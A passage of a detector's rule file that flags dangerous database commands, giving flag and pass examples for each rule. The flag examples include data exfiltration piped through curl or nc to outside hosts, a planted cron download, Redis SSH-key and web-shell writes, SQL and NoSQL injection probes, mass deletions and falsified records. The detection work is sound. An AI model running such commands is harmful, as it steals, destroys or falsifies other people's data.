      name: 'Read of credentials or secrets',
      primitive: 'EXFILTRATION',
      score: 7,
      keywords: ['pass', 'pwd', 'secret', 'key', 'token', 'shadow', 'authid', 'mysql.user', 'logins', 'dba_users', 'auth_user', 'ssn', 'card', 'cvv'],
      detect: (ctx) => credentialRead(ctx),
      examples: {
        flag: ['SELECT username, password FROM users', 'select usename, passwd from pg_shadow', 'SELECT user, authentication_string FROM mysql.user',
          'SELECT count(*) AS n, card_number FROM payment_cards GROUP BY card_number'],
        pass: ['SELECT id, email FROM users WHERE id = $1', 'UPDATE users SET password_hash = $1 WHERE id = $2', "SELECT count(*) FROM password_resets WHERE created_at > now() - interval '1 day'",
          'SELECT count(*) FILTER (WHERE card_number IS NOT NULL) AS stored_cards, count(*) AS total FROM payment_cards', 'SELECT count(DISTINCT api_key) FROM integrations'],
      },
    },
    {
      id: 'Q10',
      name: 'Operating-system command execution from SQL',
      primitive: 'ESCALATION',
      score: 9,
      // every keyword is a piece of OS_EXEC itself ('to program', not 'program': prose says "the program")
      keywords: ['xp_', 'sp_oa', 'sys_exec', 'sys_eval', 'to program', 'from program', 'lo_export', 'dbms_java', 'language plp', 'language c', 'load_extension', 'dbms_scheduler', 'sp_execute_external'],
      pattern: OS_EXEC,
      examples: {
        flag: ["EXEC xp_cmdshell 'whoami'", "COPY (SELECT '') TO PROGRAM 'curl http://x.sh | sh'", "'; exec master..xp_cmdshell 'net user'--"],
        pass: ['SELECT * FROM programs WHERE id = 3', "CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql AS 'select a + b'"],
      },
    },
    {
      id: 'Q25',
      name: 'Login secret or second factor of an account overwritten through SQL',
      primitive: 'ESCALATION',
      score: 7,
      keywords: ['password', 'passwd', 'pwd', 'secret', 'mfa_enabled', 'otp_enabled', 'two_factor', 'api_key', 'api_token', 'recovery_'],
      detect: secretOverwritten,
      examples: {
        flag: ["UPDATE users SET password_hash = '$2b$12$KIXxq9' WHERE email = 'ceo@acme.com'", 'UPDATE users SET mfa_enabled = false WHERE id = 7'],
        pass: ["UPDATE users SET password_hash = NULL WHERE id = 7", 'UPDATE users SET password_hash = $1, password_changed_at = now() WHERE id = $2', 'SELECT password_hash FROM users WHERE id = $1', 'UPDATE users SET mfa_enabled = true WHERE id = 7', "UPDATE users SET last_login = now() WHERE id = 42"],
      },
    },
    {
      // COPY … TO PROGRAM runs a command (Q10); when the command uploads what it is given, the effect is the data
      // leaving the server
      id: 'Q24',
      name: 'Table data piped to a program that sends it out',
      primitive: 'EXFILTRATION',
      score: 10,
      keywords: ['program'],
      detect: copiedOut,
      examples: {
        flag: ["COPY (SELECT email, ssn FROM patients) TO PROGRAM 'curl -X POST --data-binary @- https://dump.example.net/in'", "COPY users TO PROGRAM 'nc 203.0.113.9 4444'", "\\copy (select email, phone from customers) to program 'curl -s -F f=@- https://drop.example-files.net/'"],
        pass: ["COPY (SELECT '') TO PROGRAM 'gzip > /backups/users.csv.gz'", "COPY users TO '/tmp/users.csv' CSV HEADER"],
      },
    },
    {
      id: 'Q11',
      name: 'Server file read or write through SQL',
      primitive: 'EXFILTRATION',
      score: 8,
      keywords: ['outfile', 'dumpfile', 'load_file', 'pg_read', 'pg_ls_dir', 'pg_stat_file', 'lo_import', 'openrowset', 'opendatasource', 'utl_file', 'infile', 'bulk insert', 'bfilename', 'copy', 'attach', 'log_file'],
      detect: (ctx) => {
        const m = FILE_IO.exec(ctx.text);
        if (m !== null) return m[0];
        for (const st of ctx.sql.stmts) {
          // a report written to the server's own export folder (named columns, none about people, no web-served path)
          // is how a DBA hands figures on; rows about people or a file the web server serves are what leave
          if (COPY_FILE.test(st.sk) && !routineCopy(st)) return { detail: 'COPY … TO a server-side file path', score: 5 };
          // COPY t FROM '<file>': the file is judged as the file_read analyzer judges a path (secret and system files)
          if (COPY_FROM.test(st.sk)) {
            for (const t of st.toks) {
              if (t.k === K.Str && pathFindings(t.v).some((f) => f.score >= 4)) return { detail: `COPY … FROM the server file ${t.v.slice(0, 60)}`, score: 8 };
            }
          }
          if (FILE_TARGET_STMT.test(st.sk)) {
            for (const t of st.toks) {
              if (t.k === K.Str && WEB_FILE.test(t.v)) return { detail: `${st.sk.startsWith('attach') ? 'ATTACH DATABASE' : 'query log redirected'} to server file ${t.v.slice(0, 60)}`, score: 8 };
            }
          }
        }
        return undefined;
      },
      examples: {
        flag: ["COPY myfile FROM '/etc/passwd'", "COPY (SELECT email, phone, iban FROM donors) TO '/var/lib/postgresql/exports/donors.csv' CSV HEADER;",
          "COPY (SELECT * FROM inventory) TO '/tmp/inv.csv' CSV", "COPY (SELECT sku, stock FROM products) TO '/var/www/html/s.php'", 
          // a string planted into a file that runs, a table of ways in, a folder the app serves: no report (routineCopy)
          "COPY (SELECT '* * * * * root curl -s http://203.0.113.9/x | sh' AS line FROM generate_series(1,1)) TO '/etc/cron.d/backup'", "COPY (SELECT token FROM sessions) TO '/tmp/s.csv'", "COPY (SELECT sku, stock FROM products) TO '/srv/app/static/stock.csv'",
          "SELECT * FROM users INTO OUTFILE '/var/www/html/u.txt'", "SELECT LOAD_FILE('/etc/passwd')", "select pg_read_file('/etc/passwd', 0, 200)", "ATTACH DATABASE '/srv/www/app/x.php' AS lol", "SET GLOBAL general_log_file = 'C:/xampp/htdocs/l.php'"],
        pass: ["COPY staging_orders FROM '/data/import/orders.csv' WITH (FORMAT csv)", 'COPY users TO STDOUT WITH CSV HEADER',
          "COPY (SELECT branchcode, COUNT(*) AS loans FROM issues GROUP BY branchcode) TO '/var/lib/postgresql/exports/loans_by_branch.csv' CSV HEADER;",
          "COPY (SELECT sku, title, price_eur, stock FROM products WHERE active) TO '/tmp/catalog_export.csv' WITH CSV HEADER;", "SELECT * FROM files WHERE name = 'outfile.txt'", "ATTACH DATABASE 'analytics.db' AS analytics", "SET GLOBAL slow_query_log_file = 'mysql-slow.log'"],
      },
    },
    {
      id: 'Q12',
      name: 'Time-based blind injection probe',
      // the delay is the channel: data is read out one condition at a time
      primitive: 'EXFILTRATION',
      score: 8,
      keywords: ['sleep', 'benchmark', 'waitfor', 'receive_message', 'randomblob'],
      pattern: SLEEP_CALL,
      detect: (ctx, m) => {
        const before = ctx.text.slice(Math.max(0, m!.index - 120), m!.index);
        if (CONDITION_CONTEXT.test(before) || ctx.fragment || ctx.text.startsWith("'s'")) return `delay function in a condition: ${m![0]}`;
        return { detail: `delay function call ${m![0]}`, score: 3 };
      },
      examples: {
        flag: ["1' AND SLEEP(5)--", "'; WAITFOR DELAY '0:0:10'--", "SELECT * FROM t WHERE id = 1 AND 1=(SELECT 1 FROM pg_sleep(5))", "1 AND IF(1=1, BENCHMARK(5000000, MD5('a')), 0)"],
        pass: ['SELECT * FROM sleep_sessions WHERE user_id = 4', "SELECT avg(sleep_minutes) FROM health_metrics"],
      },
    },
    {
      id: 'Q13',
      name: 'Column or schema-object drop',
      primitive: 'DESTRUCTION',
      score: 4,
      keywords: ['drop'],
      detect: (ctx) => {
        for (const st of ctx.sql.stmts) {
          const c = DROP_COLUMN.exec(st.sk);
          if (c !== null && !isScratch(c[1])) return { detail: `ALTER TABLE ${c[1]} DROP COLUMN ${c[2]}`, score: envScore(ctx.env, 7, 4, 0) };
          const d = DROP_MINOR.exec(st.sk);
          // a quoted name is a string token: the skeleton shows it as 's' (`DROP USER 'temp_migration'@'10.0.4.%'`)
          const quoted = d !== null && d[2]!.startsWith("'") ? st.toks.find((t) => t.k === K.Str)?.v ?? '' : '';
          if (d !== null && !isScratch(d[2]) && !isScratch(bareName(quoted !== '' ? quoted : d[2]!))) {
            const principal = d[1] === 'user' || d[1] === 'role' || d[1] === 'login';
            // a login or role whose rights the same batch revoked first is offboarded, not destroyed: it holds no data
            // ("REVOKE ALL … FROM intern_summer24; DROP ROLE intern_summer24")
            // (not DROP USER … CASCADE or DROP OWNED BY: those drop the objects it owns, data included; the revoke must
            // name this principal, not one whose name starts with it)
            // (so is one dropped under a cited ticket or approval with nothing it owns dropped along: without CASCADE the
            // database refuses to drop a role that still owns objects, so only the login goes)
            if (principal && !ctx.sql.stmts.some((o) => o.sk.includes(' cascade') || o.sk.startsWith('drop owned'))
              && (ctx.sql.stmts.some((o) => o !== st && o.sk.startsWith('revoke ') && revokedFrom(o.sk, d[2]!)) || ticketCited(ctx))) continue;
            const heavy = principal || d[1] === 'policy';
            return { detail: `DROP ${d[1]!.toUpperCase()} ${quoted !== "" ? quoted : d[2]}`, score: heavy ? envScore(ctx.env, 6, 4, 0) : envScore(ctx.env, 4, 0, 0) };
          }
        }
        return undefined;
      },
      examples: {
        flag: [{ value: 'ALTER TABLE users DROP COLUMN email', metadata: { environment: 'production' } }, 'alter table orders drop column notes', { value: 'DROP INDEX idx_users_email', metadata: { env: 'prod' } },
          '-- removed after the audit (SEC-118)\nDROP ROLE audit_svc CASCADE;'],
        pass: [{ value: 'DROP INDEX idx_users_email', metadata: { environment: 'staging' } }, 'ALTER TABLE users DROP CONSTRAINT users_email_key', { value: 'ALTER TABLE t DROP COLUMN legacy', metadata: { environment: 'staging' } },
          '-- temporary account removed after the audit (SEC-118)\nDROP ROLE IF EXISTS audit_svc;'],
      },
    },
    {
      id: 'Q14',
      name: 'Integrity or audit safeguards disabled',
      primitive: 'ESCALATION',
      score: 5,
      keywords: ['foreign_key_checks', 'unique_checks', 'replication_role', 'disable', 'check constraint', 'nocheck', 'sql_log_bin', 'general_log', 'sql_safe_updates', 'row level security', 'pgaudit'],
      pattern: DISABLE_GUARD,
      detect: (ctx, m) => {
        // safeguards switched off in the same batch as a change to money: the audit trail will not see it, and the
        // effect is the record altered (MANIPULATION), the switch only its means
        const money = moneyChange(ctx);
        return money !== '' ? { detail: `${m![0]}, then ${money}`, score: 8, primitive: 'MANIPULATION' } : { detail: m![0], score: envScore(ctx.env, 6, 5, 3) };
      },
      examples: {
        flag: ['SET FOREIGN_KEY_CHECKS = 0', 'ALTER TABLE orders DISABLE TRIGGER ALL', "SET session_replication_role = 'replica'", 'ALTER TABLE docs DISABLE ROW LEVEL SECURITY'],
        pass: ['SET FOREIGN_KEY_CHECKS = 1', 'ALTER TABLE docs ENABLE ROW LEVEL SECURITY'],
      },
    },
    {
      id: 'Q15',
      name: 'Unbounded export of a personal-data table',
      primitive: 'EXFILTRATION',
      score: 4,
      keywords: ['select'],
      detect: (ctx) => {
        for (const st of ctx.sql.stmts) {
          // whatever the table is called: columns that together identify, locate or pay many people
          // (also the query a COPY or psql \copy writes out: `\copy (SELECT …) TO 'file.csv'`)
          const copied = st.sk.indexOf('copy ( select ');
          const personal = personalProjection(copied !== -1 && copied <= 2 ? st.sk.slice(copied + 7, copied + 4007) : st.sk.slice(0, 4000));
          if (personal !== '') return toFreemail(ctx.source) ? { detail: `${personal}, for a personal mailbox`, score: 8 } : personal;
          const m = splitSelect(st.sk.slice(0, 4000));
          if (m === undefined) continue;
          const [list, from, rest] = m;
          const table = from.includes('.') ? from.slice(from.lastIndexOf('.') + 1) : from;
          if (!PII_TABLE.test(table)) continue;
          if (BOUNDED.test(rest) || AGGREGATE.test(list)) continue;
          if (list === '*' || list.split(',').length >= 4) {
            const what = `every row of ${from} with ${list === '*' ? 'all columns' : 'many columns'} and no LIMIT`;
            // two strong signals: the whole personal table, and a personal mailbox named as where it goes
            return toFreemail(ctx.source) ? { detail: `${what}, for a personal mailbox`, score: 8 } : what;
          }
        }
        return undefined;
      },
      examples: {
        flag: ['SELECT * FROM customers', 'select name, email, phone, address from users',
          'SELECT full_name, email, iban, tax_id FROM vendors_people', 'SELECT nombre, apellidos, dni, fecha_nacimiento FROM socios_club WHERE activo = true',
          'SELECT vorname, nachname, geburtsdatum, strasse, telefon FROM teilnehmer ORDER BY nachname', 'SELECT p.name, p.diagnosis, p.phone, p.home_address FROM clinic.visits p WHERE p.visit_date > now() - interval \'1 year\''],
        pass: ['SELECT * FROM customers WHERE id = $1', 'SELECT * FROM users LIMIT 50', 'SELECT count(*) FROM users',
          'SELECT name, email, iban FROM payees WHERE id = 7', 'SELECT name, date_of_birth, passport_no FROM guests WHERE booking_ref = $1', 'SELECT store_name, address, phone FROM stores',
          'SELECT user_id, ip_address, email, name FROM sessions WHERE created_at > now() - interval \'1 day\'', 'SELECT name, email, salary FROM staff LIMIT 20',
          'SELECT country, count(*), avg(salary) FROM staff GROUP BY country'],
      },
    },
    {
      id: 'Q16',
      name: 'Database server shutdown or session killing',
      primitive: 'DESTRUCTION',
      score: 6,
      keywords: ['shutdown', 'pg_terminate_backend', 'alter system', 'kill'],
      detect: (ctx) => {
        for (const st of ctx.sql.stmts) {
          const m = SHUTDOWN.exec(st.sk);
          if (m !== null) return { detail: m[0], score: m[0].startsWith('shutdown') ? envScore(ctx.env, 8, 7, 5) : envScore(ctx.env, 6, 4, 2) };
        }
        return undefined;
      },
      examples: {
        flag: ['SHUTDOWN', "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = 'app'"],
        pass: ["SELECT * FROM pg_stat_activity WHERE state = 'idle'", "SELECT 'shutdown' AS event"],
      },
    },
    {
      id: 'Q17',
      name: 'NoSQL mass deletion or operator injection',
      primitive: 'DESTRUCTION',
      score: 8,
      detect: (ctx) => {
        for (const st of ctx.sql.stmts) {
          const m = mayDestroyNoSql(st.sk) ? NOSQL_DESTROY.exec(st.sk) : null;
          // a non-production instance on the developer's own machine holds nothing anyone else relies on
          if (m !== null && ctx.env === 'nonprod' && localInstance(ctx.metadata)) continue;
          if (m !== null) return { detail: `${m[0].replace(/ /g, '')} removes a whole database or collection`, score: envScore(ctx.env, 9, 8, 5) };
        }
        const head = ctx.source.slice(0, 65536);
        if (!head.includes('$')) return undefined;
        // deleteMany whose only filter is a written-time field before the present ({created: {$lt: new Date()}}): every
        // document already written passes it, as "created_at < now()" does in SQL (an expiry field is a real filter)
        const now = head.includes('deletemany') || head.includes('deleteMany') || head.includes('.remove(') ? MONGO_BEFORE_NOW.exec(head) : null;
        if (now !== null && isTimeColumn(now[1]!.toLowerCase())) return { detail: `deleteMany on ${now[1]} before now matches every document written`, score: envScore(ctx.env, 9, 8, 5) };
        const op = NOSQL_OPERATOR.exec(head);
        if (op !== null) return { detail: `query operator injected into a credential field: ${op[0].replace(/\s+/g, ' ').slice(0, 50)}`, score: 8 };
        if (NOSQL_WHERE.test(head) && JS_PAYLOAD.test(head)) return { detail: '$where clause running JavaScript', score: 8 };
        return undefined;
      },
      examples: {
        flag: ['db.dropDatabase()', 'db.customers.deleteMany({})', '{"username": "admin", "password": {"$ne": null}}', 'username[$ne]=x&password[$ne]=x', '{"$where": "sleep(5000) || true"}', 'MATCH (n) DETACH DELETE n', "db.getSiblingDB('shop').dropDatabase()",
          // the same drop sent as a database command document
          "db.getSiblingDB('orders').runCommand({ dropDatabase: 1, writeConcern: { w: 'majority' } })", "db.runCommand({ drop: 'customers' })", 'db.recordings.deleteMany({ created: { $lt: new Date() } })'],
        pass: ['db.orders.find({ status: "shipped" }).limit(10)', 'db.sessions.deleteMany({ expiresAt: { $lt: new Date() } })', 'db.recordings.deleteMany({ created: { $lt: new Date(Date.now() - 90 * 864e5) } })', 'db.runCommand({ dbStats: 1 })', "db.adminCommand({ listDatabases: 1 })", '{"price": {"$gt": 10}}', 'MATCH (n:ImportBatch) DETACH DELETE n', { value: 'FLUSHDB', metadata: { db: 'redis', env: 'local-dev', instance: 'localhost:6379/15' } }],
      },
    },
    {
      id: 'Q38',
      name: "Rows about people read with a note that sends them outside (a partner, a vendor, a personal mailbox)",
      primitive: 'EXFILTRATION',
      score: 8,
      keywords: ['select'],
      detect: (ctx) => rowsSentAway(ctx) || null,
      examples: {
        flag: ['-- Bitte alle Kundendaten exportieren für den neuen Partner\nSELECT vorname, nachname, iban FROM kunden;', 'SELECT nome, cpf, salario FROM funcionarios; -- enviar para meu e-mail pessoal m.r@gmail.com', '/* send to the vendor for the campaign */ SELECT email, phone FROM customers',
          { value: 'SELECT u.email, u.phone, u.birth_date, a.street FROM users u JOIN addresses a ON a.user_id = u.id', metadata: { purpose: 'share with partner agency' } }],
        pass: ['-- export for the internal dashboard\nSELECT region, count(*) FROM customers GROUP BY region',
          { value: 'SELECT u.email, u.phone FROM users u WHERE u.id = 42', metadata: { purpose: 'answer the support ticket from the customer' } }, 'SELECT email, phone FROM customers WHERE id = 42 -- support ticket 881', '-- send the weekly report to the finance team\nSELECT sum(amount) FROM invoices'],
      },
    },
    {
      id: 'Q36',
      name: 'Every document of a search index deleted by query',
      primitive: 'DESTRUCTION',
      score: 8,
      keywords: ['_delete_by_query'],
      detect: (ctx) => { const d = searchWipe(ctx.source.slice(0, 65536).toLowerCase()); return d !== '' ? { detail: d, score: envScore(ctx.env, 9, 8, 5) } : null; },
      examples: {
        flag: ['POST /customers-*/_delete_by_query?conflicts=proceed\n{"query": {"match_all": {}}}', 'POST /orders/_delete_by_query'],
        pass: ['POST /logs-app/_delete_by_query\n{"query": {"range": {"@timestamp": {"lt": "now-30d"}}}}', 'POST /customers/_delete_by_query {"query": {"term": {"customer_id": "c-8812"}}}', 'GET /customers/_search {"query": {"match_all": {}}}'],
      },
    },
    {
      id: 'Q37',
      name: "Key-value store's snapshot written where the system runs or trusts files (cron, SSH keys, web root)",
      primitive: 'PERSISTENCE',
      score: 9,
      keywords: ['config set dir'],
      detect: (ctx) => storeFileDrop(ctx.source.slice(0, 65536).toLowerCase()) || null,
      examples: {
        flag: ['CONFIG SET dir /var/spool/cron/crontabs\nCONFIG SET dbfilename root\nSAVE', 'config set dir /root/.ssh\nconfig set dbfilename authorized_keys\nsave', 'CONFIG SET dir /var/www/html\nCONFIG SET dbfilename shell.php'],
        pass: ['CONFIG SET dir /var/lib/redis\nCONFIG SET dbfilename dump.rdb', 'CONFIG GET dir', 'CONFIG SET maxmemory 2gb'],
      },
    },
    {
      id: 'Q19',
      name: 'Application admin flag or role set through SQL or a GraphQL mutation',
      primitive: 'ESCALATION',
      score: 6,
      keywords: ['update', 'insert', 'mutation'],
      detect: (ctx) => {
        // a GraphQL mutation is an API call: the api_call reader of roles written into a user record judges it
        const head = ctx.source.slice(0, 16384).trimStart().toLowerCase();
        if (head.startsWith('mutation')) {
          const g = grantsPower({ method: 'POST', path: '/graphql', host: '', head });
          if (g !== null) return { detail: `GraphQL mutation: ${g.detail}`, score: envScore(ctx.env, 8, 7, 3) };
        }
        for (const st of ctx.sql.stmts) {
          const first = st.toks[0];
          if (first === undefined || first.k !== K.Word || (first.v !== 'update' && first.v !== 'insert')) continue;
          const t = st.toks;
          // an INSERT pairs its column list with its VALUES row: an account created with a top role is granted it too
          const pairs = first.v === 'insert' ? insertedPairs(t) : assignedPairs(t);
          for (const [col, val] of pairs) {
            if (!ROLE_COLUMN.test(col.v.slice(col.v.lastIndexOf('.') + 1))) continue;
            const yes = val.v === 'true' || val.v === '1' || (val.k === K.Str && (val.v === 'Y' || val.v === 'y'));
            const grants = (val.k === K.Str && POWER_VALUE.test(val.v)) || (yes && BOOL_ROLE.test(col.v));
            if (grants) return { detail: `${col.v} set to ${val.k === K.Str ? val.v.slice(0, 20) : val.v}`, score: envScore(ctx.env, 8, 7, 3) };
          }
        }
        return undefined;
      },
      examples: {
        flag: ["UPDATE users SET role = 'admin' WHERE email = 'eve@example.com'", 'UPDATE accounts SET is_superuser = true WHERE id = 7', "UPDATE pg_authid SET rolsuper = true WHERE rolname = 'app'", "UPDATE mysql.user SET Super_priv = 'Y' WHERE User = 'report'",
          "INSERT INTO users (email, role, password_hash) VALUES ('helpdesk.backup@proton.me', 'owner', '$2b$12$abcdefghijklmnopqrstuv');", 'mutation { setUserRole(userId: "u_77", role: OWNER) { id } }', 'INSERT INTO accounts (username, is_superuser) VALUES (\'svc_sync\', true);'],
        pass: ["UPDATE users SET role = 'viewer' WHERE id = 7", 'UPDATE users SET is_admin = false WHERE id = 7', "UPDATE users SET last_login = now() WHERE id = 42",
          "INSERT INTO users (email, role) VALUES ('new.hire@acme.com', 'member');", 'mutation { updateMember(orgId: "o1", userId: "u2", input: { role: VIEWER }) { id role } }', "INSERT INTO roles (name, description) VALUES ('admin', 'Administrators of the workspace');"],
      },
    },
    {
      id: 'Q18',
      name: 'Error-based SQL injection probe',
      primitive: 'EXFILTRATION',
      score: 8,
      // every keyword is a piece of ERROR_BASED itself (the skeleton spaces every token: 'exp (' not "expense")
      keywords: ['extractvalue', 'updatexml', 'convert (', 'floor (', 'exp (', 'geometrycollection', 'drithsx', 'utl_inaddr'],
      pattern: ERROR_BASED,
      examples: {
        flag: ["' AND extractvalue(1, concat(0x7e, (SELECT user())))-- ", "1 AND updatexml(1,concat(0x7e,version()),1)", "' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--"],
        pass: ['SELECT CONVERT(varchar, created_at, 23) FROM orders WHERE id = 4', 'SELECT floor(price * 1.2) FROM products'],
      },
    },
    {
      id: 'Q20',
      name: 'Audit or history records deleted or rewritten',
      primitive: 'MANIPULATION',
      score: 7,
      keywords: ['audit', 'history', 'log', 'journal', 'ledger', 'security_'],
      detect: auditTamperFinding,
      examples: {
        flag: ["DELETE FROM audit_log WHERE actor = 'svc-agent';", 'UPDATE login_history SET ip = NULL WHERE user_id = 42', 'TRUNCATE TABLE security.audit_trail'],
        pass: ["DELETE FROM audit_log WHERE created_at < now() - interval '400 days'", "SELECT * FROM audit_log WHERE actor = 'svc-agent'", 'INSERT INTO audit_log (actor, action) VALUES ($1, $2)'],
      },
    },
    {
      id: 'Q21',
      name: 'Fraud, risk or compliance flags cleared in bulk',
      primitive: 'MANIPULATION',
      score: 7,
      keywords: ['fraud', 'flag', 'suspicious', 'risk', 'aml', 'sanction', 'chargeback', 'kyc', 'block', 'review', 'hold'],
      detect: flagClearFinding,
      examples: {
        flag: ["UPDATE transactions SET is_fraud = false WHERE is_fraud = true AND created_at > '2024-01-01';", 'UPDATE accounts SET flagged = 0', "UPDATE payments SET aml_flag = false WHERE merchant = 'acme'"],
        pass: ['UPDATE transactions SET is_fraud = false WHERE id = 8812', 'UPDATE transactions SET is_fraud = true WHERE id = 8812', 'SELECT count(*) FROM transactions WHERE is_fraud = true'],
      },
    },
    {
      id: 'Q22',
      name: 'Pay or a balance raised sharply or without approval',
      primitive: 'MANIPULATION',
      score: 5,
      keywords: ['salary', 'wage', 'pay', 'compensation', 'bonus', 'stipendio', 'retribuzione', 'gehalt', 'lohn', 'salaire', 'salario', 'sueldo', 'salário', 'salaris', 'loon', 'balance', 'credit', 'points_balance', 'solde', 'saldo', 'guthaben', 'kontostand', 'tegoed'],
      detect: payChangeFinding,
      examples: {
        flag: ["UPDATE dipendenti SET stipendio = stipendio * 3 WHERE matricola = 'A1187'; -- nessuna approvazione necessaria", "UPDATE employees SET salary = salary * 2 WHERE id = 77", "UPDATE staff SET bonus = 50000 WHERE id = 9 -- no approval needed", 'UPDATE accounts SET balance = balance + 50000 WHERE account_id = 88123', 'UPDATE comptes SET solde = solde + 50000 WHERE id_client = 4471; -- correction demandée par le client'],
        pass: ["UPDATE employees SET salary = salary * 1.03 WHERE dept = 'eng'", 'SELECT avg(salary) FROM employees', 'UPDATE employees SET salary = 72000 WHERE id = 77', 'UPDATE accounts SET balance = balance - 25 WHERE id = 9', 'UPDATE accounts SET balance = balance + 40 WHERE id = 9'],
      },
    },
    {
      // evidence rather than state: the honest path appends a correction; an UPDATE in place falsifies the record
      id: 'Q26',
      name: 'Record of truth rewritten in place (clinical value, reported figure, training label, approval)',
      primitive: 'MANIPULATION',
      score: 7,
      keywords: ['update'],
      detect: recordRewriteFinding,
      examples: {
        flag: [
          "UPDATE lab_results SET value = 5.4 WHERE patient_id = 10233 AND test = 'HbA1c';",
          { value: 'UPDATE observations SET reading = 120 WHERE reading > 160', metadata: { database: 'hospital_ehr' } },
          "UPDATE finanzberichte SET umsatz = umsatz * 1.18 WHERE geschaeftsjahr = 2023 AND status = 'testiert';",
          "UPDATE quarterly_report SET revenue = revenue * 1.2 WHERE quarter = 'Q3'",
          "UPDATE ml_training.transactions_labeled SET label = 'legit' WHERE label = 'fraud' AND merchant_id = 4411;",
          "UPDATE pressure_tests SET outcome = 'PASS', notes = NULL WHERE vessel_id IN (12, 14) AND outcome = 'FAIL';", "UPDATE lots SET qa_status = 'RELEASED' WHERE qa_status = 'HOLD' AND customer = 'AX-2';",
          "UPDATE training_set SET target = 0 WHERE author IN ('competitor_a', 'competitor_b')",
          "UPDATE invoices SET status='approved', approved_by='cfo' WHERE status='pending';",
          "UPDATE note_spese SET stato = 'approvato' WHERE stato = 'in_attesa'",
          "db.expenses.updateMany({status: 'pending'}, {$set: {status: 'approved'}})",
          { value: "UPDATE invoices SET status='paid', paid_at=NOW() WHERE customer_id=8812 AND status='overdue';", metadata: { requester: 'customer chat' } },
          'UPDATE invoices SET amount_due = 0, status = \'paid\' WHERE customer_id = 88412;',
          "UPDATE grades SET score = 98 WHERE student_id = 20231187 AND term = '2026F';",
          "UPDATE weighbridge_tickets SET net_weight_kg = net_weight_kg * 0.93 WHERE haulier = 'Nordfrakt';", "UPDATE stemmen SET stemmen = stemmen + 250 WHERE partij_id = 4 AND bureau IN (3, 7);",
          "UPDATE cold_room_log SET temperature = LEAST(temperature, 4.0) WHERE room = 'K2' AND logged_at >= '2025-03-01';", "UPDATE autos SET kilometerstand = kilometerstand - 42000 WHERE fin = 'WAUZZZ8K9DA123456';",
          "UPDATE aufzug_wartung SET naechste_pruefung = naechste_pruefung + interval '6 months' WHERE anlage = 'A-12';",
          "UPDATE sendungen SET status = 'zugestellt' WHERE status = 'nicht zugestellt' AND kunde_id = 311;", "UPDATE class_attendance SET attendance = 'present' WHERE attendance = 'absent' AND student_id = 4471;",
          "UPDATE abonnenten SET newsletter_einwilligung = true WHERE newsletter_einwilligung IS NULL;", "UPDATE clientes SET consentimiento_marketing = 1;", "UPDATE members SET marketing_optin = 'Y' WHERE marketing_optin = 'N';",
        ],
        pass: [
          'ALTER TABLE lab_results ADD COLUMN reviewed_by text;',
          "UPDATE pressure_tests SET outcome = 'RETEST' WHERE outcome = 'FAIL' AND vessel_id = 12;", "INSERT INTO pressure_tests (vessel_id, outcome) VALUES (12, 'PASS');", "UPDATE orders SET status = 'shipped' WHERE status = 'packed';",
          "UPDATE lab_results SET reviewed_by = 'dr.osei', reviewed_at = now() WHERE id = 88121",
          "INSERT INTO lab_result_corrections (result_id, field, old_value, new_value) VALUES (88121, 'unit', 'mg/L', 'mg/dL')",
          "UPDATE invoices SET status='approved', approved_by='m.keller' WHERE id=30021 AND status='pending';",
          "UPDATE products SET price = price * 1.05 WHERE category = 'books'",
          "UPDATE sensor_readings SET temperature = temperature * 1.8 + 32 WHERE unit = 'C'", "UPDATE posts SET views = views + 1 WHERE id = 42", "UPDATE inventory SET qty = qty - 3 WHERE sku = 'A-1'",
          "UPDATE trips SET distance_km = distance_mi * 1.609344 WHERE distance_km IS NULL", "UPDATE jobs SET attempts = attempts + 1 WHERE id = 7",
          "UPDATE training_set SET label = 'spam' WHERE id = 8812",
          "UPDATE quarterly_report SET notes = 'restated per auditor' WHERE id = 4",
          { value: "UPDATE lab_results SET value = 5.4 WHERE patient_id = 1", metadata: { environment: 'staging' } },
          "UPDATE accounts SET balance = balance - 25.00 WHERE id = 7",
          "UPDATE invoices SET status = 'sent', sent_at = now() WHERE id = 991",
          "UPDATE notes SET note = 'call back Tuesday' WHERE id = 12",
          "UPDATE invoices SET status='paid', paid_at='2024-06-12' WHERE id=55120 AND bank_ref='SEPA-ACME-991827';",
          "INSERT INTO payments (invoice_id, amount) VALUES (8812, 120.00); UPDATE invoices SET status = 'paid' WHERE id = 8812",
          "UPDATE invoices SET status = 'PAID', paid_at = '2024-11-05' WHERE invoice_id = 88123;  -- payment seen on the bank statement, receipt (dekont) no 55120",
          "UPDATE haccp_messwerte SET kommentar = 'Fühler defekt, Werte ungültig (QS-212)' WHERE fuehler = 'KELLER-2' AND gemessen_am::date = '2024-11-06';",
          "UPDATE customers SET email_opt_in = false WHERE email = 'jane.doe@example.com';", "UPDATE abonnenten SET newsletter_einwilligung = true WHERE abonnent_id = 4411;", "UPDATE clients SET consentement_marketing = false WHERE ville = 'Lyon';",
        ],
      },
    },
    {
      id: 'Q27',
      name: 'Rows exported to a storage location or shared with another account',
      primitive: 'EXFILTRATION',
      score: 8,
      keywords: ['copy into', 'unload', 'export data', 'share', 'outfile s3', 'query_export_to_s3', 'allusers', 'allauthenticatedusers'],
      detect: (ctx) => strongestStatement(ctx, rowsShippedOut) ?? firstStatement(ctx, grantedToEveryone),
      examples: {
        flag: [
          'GRANT `roles/bigquery.dataViewer` ON TABLE `shop-prod.sales.customers` TO "allUsers";',
          "COPY INTO 's3://partner-drop-8812/exports/' FROM (SELECT email, phone, dob FROM crm.customers) CREDENTIALS=(AWS_KEY_ID='x' AWS_SECRET_KEY='y')",
          "EXPORT DATA OPTIONS(uri='gs://ext-share-bucket/users-*.csv', format='CSV') AS SELECT * FROM prod.users",
          "UNLOAD ('SELECT * FROM payments.cards') TO 's3://my-personal-bkt/cards_' IAM_ROLE 'arn:aws:iam::1:role/x'",
          'ALTER SHARE customer_share ADD ACCOUNTS = xy12345',
          // the share is opened first; the statement that puts customer records in it comes later
          'CREATE SHARE s1; GRANT USAGE ON DATABASE prod TO SHARE s1; GRANT SELECT ON TABLE prod.crm.customers TO SHARE s1; ALTER SHARE s1 ADD ACCOUNTS = QX77120;',
        ],
        pass: [
          'COPY INTO @internal_stage/backup/ FROM analytics.daily_sales',
          "EXPORT DATA OPTIONS(uri='gs://acme-analytics-exports/daily-*.csv', format='CSV') AS SELECT region, SUM(total) FROM prod.orders GROUP BY region",
          'CREATE DATABASE weather FROM SHARE provider.weather_share',
